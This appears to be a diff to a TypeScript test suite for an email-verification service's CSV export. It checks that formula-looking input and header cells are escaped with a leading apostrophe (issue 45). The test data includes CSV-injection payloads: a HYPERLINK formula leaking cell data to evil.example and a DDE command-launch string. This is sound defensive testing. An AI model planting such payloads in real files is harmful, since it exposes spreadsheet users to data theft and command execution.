@@ -8,7 +8,7 @@ import { loadEmailConfig, type EmailConfig } from '../config.js';
 import { EMAIL_MIGRATIONS } from '../db/migrations.js';
 import type { EmailTables } from '../db/schema.js';
 import { CSV_HEADER, EXTRA_COLUMNS } from './results.js';
-import { jobsEnv, multipartForm, parseCsv } from './jobs.test-support.js';
+import { jobsEnv, multipartForm, parseCsv, strictCsv } from './jobs.test-support.js';
 
 /** Issue 23, "results that keep the list": a CSV upload's own columns, the status filter, `columns=all`, deleting results, retention. */
 for (const backend of testBackends()) {
@@ -82,8 +82,9 @@ for (const backend of testBackends()) {
       const body = await csvOf(id);
       const lines = body.split('\r\n');
       assert.equal(lines[0], `Name,Email,Notes,result_email,is_valid,status,reason,score,suggestion`);
-      // Each row: the record exactly as in the file (padded to three cells), then the results.
-      const kept = [records[0]!, `${records[1]!},`, records[2]!, records[4]!];
+      // Each row: the record exactly as in the file (padded to three cells; a formula-looking
+      // cell with its leading ', issue 45), then the results.
+      const kept = [records[0]!, `${records[1]!},`, records[2]!, records[4]!.replace('"=1+2"', `"'=1+2"`)];
       assert.equal(lines.length, kept.length + 2, 'one row per address kept by dedupe, then the final CRLF');
       kept.forEach((raw, i) => assert.ok(lines[i + 1]!.startsWith(`${raw},`), `row ${i + 1}: ${lines[i + 1]}`));
       const rows = parseCsv(body);
@@ -94,7 +95,7 @@ for (const backend of testBackends()) {
         [`x@${D.nxdomain}`, 'invalid', 'domain_not_found'],
       ]);
       assert.ok(rows.every((r) => r.length === 9), 'every row as wide as the header');
-      assert.equal(rows[4]![2], '=1+2', "the list's own cells are not rewritten");
+      assert.equal(rows[4]![2], "'=1+2", "the list's own cells are neutralised like the result cells (issue 45)");
 
       // columns=all: the sub-checks after the contract's columns, in both forms.
       const all = parseCsv(await csvOf(id, '&columns=all'));
@@ -219,6 +220,58 @@ for (const backend of testBackends()) {
       assert.equal((await call('GET', `/api/v1/jobs/${old}/results`)).statusCode, 410);
       assert.ok((await chunksOf(recent)) > 0, 'a job finished within the period keeps its data');
       assert.equal((await call('GET', `/api/v1/jobs/${recent}/results?format=csv`)).statusCode, 200);
+    });
+
+    // Issue 45: the list's own cells and header are neutralised like the result cells (a
+    // leading =, +, -, @, tab or CR gets a '), quoting kept; `formulas=keep` gives them back as sent.
+    test('formula-looking input and header cells get a leading \' (quoting intact, read back by a strict CSV parser); formulas=keep returns them as sent', async () => {
+      const evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")';
+      const q = (s: string) => `"${s.replaceAll('"', '""')}"`;
+      const header = `Name,Email,${q(evil)},=cmd|'/C calc'!A0,@SUM(1),+1+2,\tTab,${q('\rCR')}`;
+      const rows = [
+        `Ann,ann@${D.valid},${q(evil)},=cmd|'/C calc'!A0,@SUM(1),+1+2,\tlead tab,${q('\rlead cr')}`,
+        `Bob,bob@${D.nxdomain},-5,+1 555 0100, =2+3, "@x",plain,${q('a\r\nb')}`,
+        `Carl,-carl@${D.valid},,,,,,`,
+      ];
+      const sent = `${header}\r\n${rows.join('\r\n')}\r\n`;
+      const id = await upload(sent, [{ name: 'column', value: 'Email' }]);
+      const results = ['result_email', 'is_valid', 'status', 'reason', 'score', 'suggestion'];
+
+      const safe = await csvOf(id);
+      const read = strictCsv(safe);
+      assert.deepEqual(read[0], ['Name', 'Email', `'${evil}`, "'=cmd|'/C calc'!A0", "'@SUM(1)", "'+1+2", "'\tTab", "'\rCR", ...results]);
+      assert.deepEqual(read.slice(1).map((r) => r.slice(0, 8)), [
+        ['Ann', `ann@${D.valid}`, `'${evil}`, "'=cmd|'/C calc'!A0", "'@SUM(1)", "'+1+2", "'\tlead tab", "'\rlead cr"],
+        // Phone numbers and negative numbers too (the rule is by first character); a leading
+        // space does not hide a formula from an importer that trims.
+        ['Bob', `bob@${D.nxdomain}`, "'-5", "'+1 555 0100", " '=2+3", ` "'@x"`, 'plain', 'a\r\nb'],
+        ['Carl', `'-carl@${D.valid}`, '', '', '', '', '', ''],
+      ]);
+      assert.deepEqual(read.slice(1).map((r) => [r[8], r[10], r[11]]), [
+        [`ann@${D.valid}`, 'valid', ''],
+        [`bob@${D.nxdomain}`, 'invalid', 'domain_not_found'],
+        [`'-carl@${D.valid}`, 'valid', ''],
+      ], 'the addresses were read from the Email column and verified');
+      assert.ok(read.every((r) => r.length === 14), 'every row as wide as the header');
+      // The one change to the file's spelling is the inserted ': quoting, spacing and the rest stay.
+      assert.ok(safe.startsWith(`Name,Email,${q(`'${evil}`)},'=cmd|'/C calc'!A0,'@SUM(1),'+1+2,'\tTab,${q("'\rCR")},result_email,`), safe.slice(0, 200));
+      assert.ok(safe.includes(`\r\nBob,bob@${D.nxdomain},'-5,'+1 555 0100, '=2+3, "'@x",plain,${q('a\r\nb')},bob@`), safe);
+
+      const kept = await csvOf(id, '&formulas=keep');
+      const asSent = strictCsv(sent);
+      assert.deepEqual(strictCsv(kept).map((r) => r.slice(0, 8)), asSent, 'formulas=keep: every input cell and header cell as sent');
+      assert.ok(kept.startsWith(`${header},result_email,`), kept.slice(0, 200));
+      for (const raw of rows) assert.ok(kept.includes(`\r\n${raw},`), raw);
+      assert.equal(strictCsv(kept)[3]![8], `-carl@${D.valid}`, 'the result cells too');
+      assert.equal(strictCsv(await csvOf(id, '&formulas=escape')).join('\n'), read.join('\n'), 'escape is the default');
+      const json = (await call('GET', `/api/v1/jobs/${id}/results?formulas=keep`)).json() as { results: Array<{ email: string }> };
+      assert.equal(json.results[2]!.email, `-carl@${D.valid}`, 'JSON carries values exactly either way');
+
+      for (const bad of ['bogus', '', 'KEEP', 'false']) {
+        const res = await call('GET', `/api/v1/jobs/${id}/results?format=csv&formulas=${bad}`);
+        assert.equal(res.statusCode, 400, bad);
+        assert.deepEqual([res.json().error, res.json().field, typeof res.json().message], ['invalid_request', 'formulas', 'string'], bad);
+      }
     });
 
     // Last: every answer the tests above provoked, checked against the served document.
